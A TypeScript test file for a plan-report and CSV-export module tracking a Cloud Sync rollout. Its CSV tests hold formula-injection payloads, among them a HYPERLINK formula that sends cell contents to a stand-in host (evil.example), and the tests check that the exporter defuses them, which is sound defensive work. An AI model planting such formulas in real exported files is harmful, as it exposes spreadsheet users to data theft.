import type { DecisionSummary } from '../../src/domain/decision';
import { applyAction, type Actor, type Plan, type PlanAction } from '../../src/domain/plan';
import { applyPlanEdit, type PlanEdit } from '../../src/domain/planEdits';
import { CSV_COLUMNS, csvCell, planCsv, planReport } from '../../src/domain/report';
import { alice, bob, carol, changedPlan, newPlan, T0 } from '../helpers/planFixtures';

const T1 = '2026-11-27T10:42:00.000Z';
const T2 = '2026-11-28T11:15:00.000Z';

const decision: DecisionSummary = {
  tool: 'cloudSync',
  headline: 'Cloud Sync fits: one forest, password hash sync, no custom rules.',
  reasons: ['Single forest', 'Password hash sync'],
  overridden: false,
  decidedBy: alice,
  decidedAt: T0,
};

function act(plan: Plan, taskId: string, action: PlanAction, actor: Actor, at: string): Plan {
  return changedPlan(applyAction(plan, { taskId, action, actor, at }));
}

function editPlan(plan: Plan, edit: PlanEdit, actor: Actor, at: string): Plan {
  return changedPlan(applyPlanEdit(plan, edit, actor, at));
}

/** Prerequisites done by Bob, install agent skipped by Carol, configure owned by Carol and due, verify untouched. */
function workedPlan(): Plan {
  let plan = newPlan();
  plan = editPlan(plan, { kind: 'assign', taskId: 'cloudSync.prerequisites', owner: bob }, alice, T0);
  plan = act(plan, 'cloudSync.prerequisites', 'done', bob, T1);
  plan = act(plan, 'cloudSync.installAgent', 'skip', carol, T1);
  plan = editPlan(plan, { kind: 'assign', taskId: 'cloudSync.configure', owner: carol }, alice, T1);
  plan = editPlan(plan, { kind: 'setDue', taskId: 'cloudSync.configure', due: '2026-12-15' }, carol, T2);
  plan = editPlan(plan, { kind: 'setReminders', cadence: 'weekly' }, alice, T2);
  return plan;
}

function csvRows(csv: string): string[] {
  expect(csv.endsWith('\r\n')).toBe(true);
  return csv.slice(0, -2).split('\r\n');
}

describe('planReport', () => {
  it('summarises the decision and every task with status, owner, due date and who finished it', () => {
    const report = planReport(workedPlan(), decision, new Date('2026-12-20T00:00:00Z'));
    expect(report).toMatchObject({
      planId: 'plan-1',
      toolTitle: 'Microsoft Entra Cloud Sync',
      createdBy: alice,
      createdAt: T0,
      reminders: 'weekly',
      decision: {
        headline: decision.headline,
        reasons: decision.reasons,
        overridden: false,
        decidedBy: alice,
        decidedAt: T0,
      },
      progress: { done: 2, skipped: 1, open: 2, percent: 60 },
    });
    expect(report.tasks).toEqual([
      {
        number: 1,
        track: 'cloudSync',
        title: 'Choose the sync tool',
        status: 'done',
        statusLabel: 'Done',
        overdue: false,
        finishedBy: alice,
        finishedAt: T0,
        lastChangedBy: alice,
        lastChangedAt: T0,
      },
      {
        number: 2,
        track: 'cloudSync',
        title: 'Review Cloud Sync prerequisites',
        status: 'done',
        statusLabel: 'Done',
        owner: bob,
        overdue: false,
        finishedBy: bob,
        finishedAt: T1,
        lastChangedBy: bob,
        lastChangedAt: T1,
      },
      {
        number: 3,
        track: 'cloudSync',
        title: 'Install the provisioning agent',
        status: 'skipped',
        statusLabel: 'Skipped',
        overdue: false,
        finishedBy: carol,
        finishedAt: T1,
        lastChangedBy: carol,
        lastChangedAt: T1,
      },
      {
        number: 4,
        track: 'cloudSync',
        title: 'Configure Cloud Sync',
        status: 'todo',
        statusLabel: 'To do',
        owner: carol,
        due: '2026-12-15',
        overdue: true,
        lastChangedBy: carol,
        lastChangedAt: T2,
      },
      {
        number: 5,
        track: 'cloudSync',
        title: 'Verify users are syncing',
        status: 'todo',
        statusLabel: 'To do',
        overdue: false,
      },
    ]);
  });

  it('without a decision or a clock it leaves those parts out', () => {
    const report = planReport(newPlan());
    expect(report).not.toHaveProperty('decision');
    expect(report.tasks.every((task) => !('overdue' in task))).toBe(true);
    expect(report.reminders).toBe('off');
  });

  it('does not share the decision’s reasons array with the caller', () => {
    const report = planReport(newPlan(), decision);
    report.decision?.reasons.push('changed by a renderer');
    expect(decision.reasons).toHaveLength(2);
  });

  it('works for a plan stored before owners, due dates and reminders existed', () => {
    const old = JSON.parse(JSON.stringify(newPlan())) as Plan;
    expect(old).not.toHaveProperty('editHistory');
    const report = planReport(old, decision, new Date('2030-01-01T00:00:00Z'));
    expect(report.tasks).toHaveLength(5);
    expect(report.tasks.some((task) => task.owner || task.due || task.overdue)).toBe(false);
    expect(csvRows(planCsv(old))).toHaveLength(6);
  });
});

describe('planCsv', () => {
  it('has the header columns and one CRLF-terminated row per task', () => {
    const rows = csvRows(planCsv(workedPlan()));
    expect(rows[0]).toBe('Number,Track,Task,Status,Owner,Due,Last changed by,Last changed at (UTC),Evidence');
    expect(rows[0].split(',')).toEqual([...CSV_COLUMNS]);
    expect(rows.slice(1)).toEqual([
      '1,Cloud Sync,Choose the sync tool,Done,,,Alice Admin,2026-11-26T09:00:00.000Z,',
      '2,Cloud Sync,Review Cloud Sync prerequisites,Done,Bob Builder,,Bob Builder,2026-11-27T10:42:00.000Z,',
      '3,Cloud Sync,Install the provisioning agent,Skipped,,,Carol Ops,2026-11-27T10:42:00.000Z,',
      '4,Cloud Sync,Configure Cloud Sync,To do,Carol Ops,2026-12-15,Carol Ops,2026-11-28T11:15:00.000Z,',
      '5,Cloud Sync,Verify users are syncing,To do,,,,,',
    ]);
    expect(planCsv(workedPlan())).not.toMatch(/[^\r]\n/);
  });

  it('writes last-changed times as UTC ISO even when stored with an offset', () => {
    const plan = act(newPlan(), 'cloudSync.prerequisites', 'start', bob, '2026-11-27T01:30:00+02:00');
    expect(csvRows(planCsv(plan))[2]).toMatch(/,2026-11-26T23:30:00\.000Z,$/);
  });

  type CellRow = [label: string, value: string, expected: string];
  const CELLS: CellRow[] = [
    ['plain text', 'Carol Ops', 'Carol Ops'],
    ['empty', '', ''],
    ['a comma', 'Ops, Tier 2', '"Ops, Tier 2"'],
    ['quotes', 'Carol "CJ" Ops', '"Carol ""CJ"" Ops"'],
    ['a line feed', 'line one\nline two', '"line one\nline two"'],
    ['a CRLF', 'line one\r\nline two', '"line one\r\nline two"'],
    ['a formula', '=HYPERLINK("http://evil.example","click")', '"\'=HYPERLINK(""http://evil.example"",""click"")"'],
    ['a leading plus', '+1 Ops', "'+1 Ops"],
    ['a leading minus', '-2+3', "'-2+3"],
    ['a leading at sign', '@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['a leading tab', '\t=1+1', "'\t=1+1"],
    ['a leading carriage return', '\r=1+1', '"\'\r=1+1"'],
    ['a formula with a comma', '=1,2', '"\'=1,2"'],
    ['an equals sign later on', 'a=b', 'a=b'],
    ['a hyphen later on', 'Jean-Luc', 'Jean-Luc'],
    ['an apostrophe already', "'quoted", "'quoted"],
    ['non-ASCII', 'Zoë Østergaard', 'Zoë Østergaard'],
  ];
  it.each(CELLS)('cell with %s', (_label, value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('defuses and quotes user-controlled owner names in the exported file', () => {
    const evil: Actor = { id: 'aad-evil', name: '=HYPERLINK("http://evil.example?x="&A1,"Report")' };
    const ops: Actor = { id: 'aad-ops', name: '+1 Ops, "night" shift' };
    let plan = editPlan(newPlan(), { kind: 'assign', taskId: 'cloudSync.prerequisites', owner: evil }, evil, T1);
    plan = editPlan(
      plan,
      { kind: 'assign', taskId: 'cloudSync.installAgent', owner: ops },
      { id: 'x', name: '@admin' },
      T1,
    );
    plan = editPlan(
      plan,
      { kind: 'assign', taskId: 'cloudSync.configure', owner: { id: 'y', name: '-Dash\nNewline' } },
      bob,
      T1,
    );
    const rows = csvRows(planCsv(plan));
    expect(rows[2]).toBe(
      `2,Cloud Sync,Review Cloud Sync prerequisites,To do,"'=HYPERLINK(""http://evil.example?x=""&A1,""Report"")",,"'=HYPERLINK(""http://evil.example?x=""&A1,""Report"")",${T1},`,
    );
    expect(rows[3]).toBe(
      `3,Cloud Sync,Install the provisioning agent,To do,"'+1 Ops, ""night"" shift",,'@admin,${T1},`,
    );
    // The newline inside the quoted cell is a bare LF, so splitting on CRLF keeps the record whole.
    expect(rows[4]).toBe(`4,Cloud Sync,Configure Cloud Sync,To do,"'-Dash\nNewline",,Bob Builder,${T1},`);
    expect(rows).toHaveLength(6);
  });

  it('parses back to the same cells with a minimal RFC 4180 reader', () => {
    const plan = editPlan(
      newPlan(),
      { kind: 'assign', taskId: 'cloudSync.verify', owner: { id: 'z', name: 'A "b", c\r\nd' } },
      bob,
      T1,
    );
    const records = parseCsv(planCsv(plan));
    expect(records).toHaveLength(6);
    expect(records.every((record) => record.length === CSV_COLUMNS.length)).toBe(true);
    expect(records[5][4]).toBe('A "b", c\r\nd');
  });
});

/** Just enough of RFC 4180 to check the writer: quoted fields, doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let index = 0; index < text.length; index++) {
    const char = text[index];
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        field += '"';
        index++;
      } else if (char === '"') {
        quoted = false;
      } else {
        field += char;
      }
    } else if (char === '"') {
      quoted = true;
    } else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      index++;
    } else {
      field += char;
    }
  }
  return records;
}
